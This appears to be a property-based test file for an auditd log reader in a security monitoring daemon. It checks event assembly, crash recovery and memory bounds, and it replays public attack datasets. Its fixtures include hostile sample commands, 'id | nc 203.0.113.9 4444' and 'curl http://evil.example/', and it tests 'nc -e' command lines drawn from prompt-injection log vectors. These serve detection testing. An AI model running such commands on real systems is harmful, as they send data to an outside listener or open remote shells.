"""The whole of an audit log: however it is cut, interleaved or interrupted, the same events come of it."""

import itertools
import json
import math
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st

from daemon.events import Output
from daemon.events.auditd_reader import AuditdReader
from daemon.events.processes import Process
from daemon.model import Event, Lost
from tests.doubles.audit_lines import NOW, USERS, events_of, execve, lines_of, lost_of, read_all

CONNECT = [
    'type=SYSCALL msg=audit(1795252500.300:4): arch=c000003e syscall=42 success=yes exit=0 a0=3 ppid=1 pid=9 auid=0 uid=0 comm="c" exe="/c" key=(null)',
    "type=SOCKADDR msg=audit(1795252500.300:4): saddr=02000050CB007109",
    "type=PROCTITLE msg=audit(1795252500.300:4): proctitle=63",
]
LOGIN = [
    'type=USER_LOGIN msg=audit(1795252500.400:5): pid=8 uid=0 auid=1000 ses=1 msg=\'op=login acct="x" exe="/usr/sbin/sshd" hostname=? addr=192.0.2.1 terminal=ssh res=failed\''
]
GROUPS = [
    execve(1, "sh", "-c", "id | nc 203.0.113.9 4444", at="1795252500.100", pid=11, ppid=1),
    execve(2, "curl", "http://evil.example/é", at="1795252500.200", pid=21, ppid=2),
    execve(3, "tar", "x" * 300, at="1795252500.200", pid=31, ppid=3),
    CONNECT,
    LOGIN,
]


def fresh() -> AuditdReader:
    return AuditdReader(
        "src", host="vm", now=lambda: NOW, usernames=lambda uid: USERS.get(uid, ""), redact=lambda text: text
    )


def told(outputs: list[Output]) -> list[tuple[str, str]]:
    """What was told, without where it was read and in which order."""
    events = (
        (o.id, f"{o.at} {o.host} {o.logsource} {sorted(o.fields.items())} {o.text}")
        for o in outputs
        if isinstance(o, Event)
    )
    return sorted(events)


def read(*lines: str) -> list[Output]:
    reader = fresh()
    return [*reader.feed(lines_of(*lines)), *reader.tick(math.inf)]


WHOLE = told(read(*(line for group in GROUPS for line in group)))


@st.composite
def interleavings(draw: st.DrawFn) -> list[str]:
    """The lines of all groups, those of one group in their order, the groups mixed at will."""
    turns = draw(st.permutations([number for number, group in enumerate(GROUPS) for _ in group]))
    waiting = [list(group) for group in GROUPS]
    return [waiting[number].pop(0) for number in turns]


@given(interleavings(), st.sets(st.integers(1, 21)), st.sets(st.integers(1, 21)))
def test_mixing_cutting_and_killing_change_nothing(lines: list[str], cuts: set[int], kills: set[int]) -> None:
    reader, outputs, offset, stored = fresh(), [], 0, {}
    edges = [0, *sorted(cuts | kills), len(lines)]
    for start, end in itertools.pairwise(edges):
        piece = lines_of(*lines[start:end], offset=offset)
        outputs += reader.feed(piece)
        offset += len(piece.data)
        for row in reader.changes():
            stored[row.step, row.key] = row
        if end in kills:
            reader = fresh()
            reader.restore(stored.values())
    outputs += reader.tick(math.inf)
    assert told(outputs) == WHOLE
    assert [o for o in outputs if isinstance(o, Lost)] == []


@given(st.lists(st.binary(max_size=60).map(lambda raw: raw.replace(b"\n", b"")), max_size=8))
def test_rubbish_between_records_is_told_and_counted(rubbish: list[bytes]) -> None:
    reader = fresh()
    lines: list[bytes | str] = []
    for number, line in enumerate(GROUPS[0]):
        lines += [*rubbish[number : number + 1], line]
    outputs = [*reader.feed(lines_of(*lines)), *reader.tick(math.inf)]
    assert len(events_of(outputs, category="process_creation")) == 1
    shown = [raw for raw in rubbish[: len(GROUPS[0])] if raw.removesuffix(b"\r")]
    assert reader.unparsed == len(shown)
    assert len(events_of(outputs, service="auditd")) == len(GROUPS[0]) + len(shown)


def test_positions_are_where_the_records_stand() -> None:
    first, second = GROUPS[4][0], GROUPS[1][0]
    outputs = fresh().feed(lines_of(first, second, offset=100))
    (event,) = events_of(outputs, service="auditd")
    assert event.position is not None
    assert (event.position.path, event.position.offset) == ("/var/log/x", 100)


def test_a_seeded_parent_is_known() -> None:
    reader = fresh()
    reader.seed([Process(1, "/usr/sbin/cron", "cron -f", 0, "root")])
    outputs = [*reader.feed(lines_of(*GROUPS[0])), *reader.tick(math.inf)]
    (event,) = events_of(outputs, category="process_creation")
    assert (event.fields["ParentImage"], event.fields["ParentCommandLine"]) == ("/usr/sbin/cron", "cron -f")


def test_the_table_of_processes_survives_a_kill() -> None:
    before, after = fresh(), fresh()
    before.feed(lines_of(*execve(1, "bash", "-l", pid=5, ppid=1)))
    after.restore(before.changes())
    (event,) = events_of(after.feed(lines_of(*execve(2, "id", pid=6, ppid=5))), category="process_creation")
    assert event.fields["ParentCommandLine"] == "bash -l"


def test_a_reboot_empties_the_table_of_processes() -> None:
    reader = fresh()
    boot = (
        'type=SYSTEM_BOOT msg=audit(1795252501.000:2): pid=9 uid=0 auid=0 ses=1 msg=\' comm="x" exe="/x" res=success\''
    )
    outputs = reader.feed(lines_of(*execve(1, "bash", pid=5), boot, *execve(3, "id", pid=6, ppid=5)))
    assert "ParentImage" not in events_of(outputs, category="process_creation")[1].fields


def test_the_recorded_losses_of_a_real_auditd(shared_data: Path) -> None:
    raw = (shared_data / "auditd-3.0.9" / "run2" / "audit.log").read_bytes()
    outputs = read_all("auditd", *raw.split(b"\n")[:-1])
    gaps = [lost.detail for lost in lost_of(outputs) if lost.why == "audit_gap"]
    cut = [lost.detail.split()[1] for lost in lost_of(outputs) if lost.why == "audit_incomplete"]
    assert gaps == ["audit serials 19 to 37 never came", "audit serials 52 to 52 never came"]
    assert cut == ["18", "45", "50"]
    assert len(events_of(outputs, service="auditd")) == raw.count(b"\n")


def test_a_rotated_log_with_nodes_and_hex(shared_data: Path) -> None:
    folder = shared_data / "auditd-3.0.9" / "run1"
    raw = b"".join((folder / name).read_bytes() for name in ("audit.log.2", "audit.log.1", "audit.log"))
    outputs = read_all("auditd", *raw.split(b"\n")[:-1])
    events = events_of(outputs, service="auditd")
    assert len(events) == raw.count(b"\n")
    assert any(event.fields.get("exe") == "/srv/audittest/we ird" for event in events)
    forged = next(event for event in events if event.fields["type"] == "USER")
    assert (forged.fields["res"], forged.fields["exe"]) == ("success", "/usr/sbin/auditctl")
    assert lost_of(outputs) == []


def test_the_injections_reach_the_command_line_decoded(shared_data: Path) -> None:
    rows = (shared_data / "vectors" / "prompt_injection_logs.jsonl").read_text().splitlines()
    checked = 0
    for row in (json.loads(row) for row in rows):
        if row["id"].startswith("pi-audit-") and any("type=EXECVE" in line for line in row["lines"]):
            (event,) = events_of(read_all("auditd", *row["lines"]), category="process_creation")
            assert str(event.fields["CommandLine"]) == f"nc -e {row['text']}"
            checked += 1
    assert checked >= 5


def test_the_techniques_of_otrf_are_seen(shared_data: Path) -> None:
    lines = [
        line
        for log in sorted((shared_data / "otrf-security-datasets").glob("*.log"))
        for line in log.read_bytes().split(b"\n")
    ]
    events = events_of(read_all("auditd", *lines), category="process_creation")
    assert [event.fields["CommandLine"] for event in events] == ["arp -a", "grep -v ^?", "dd if=/dev/zero bs=1 count=1"]


def test_the_attack_data_of_splunk_reads_whole(shared_data: Path) -> None:
    folder = shared_data / "splunk-attack_data"
    for name in ("T1068_linux_dirtyfrag_dirty_frag_lpe_attack_data.log", "linux_auditd_find_password_db.log.txt"):
        lines = [line for line in (folder / name).read_bytes().split(b"\n") if line.strip()]
        reader = fresh()
        outputs = [*reader.feed(lines_of(*lines)), *reader.tick(math.inf)]
        assert reader.unparsed == 0
        ids = [output.id for output in outputs if isinstance(output, Event)]
        assert len(ids) == len(set(ids))
        assert events_of(outputs, category="process_creation")


def test_memory_stays_bounded_whatever_comes() -> None:
    reader = fresh()
    for start in range(0, 6000, 500):
        reader.feed(
            lines_of(*(f'type=SYSCALL msg=audit(5.{n % 9}:{n}): pid={n} exe="/x"' for n in range(start, start + 500)))
        )
    assert len(reader.assembler) == 1024
    assert reader.evictions == reader.assembler.evictions == 6000 - 1024
    assert len(reader.changes()) < 8000
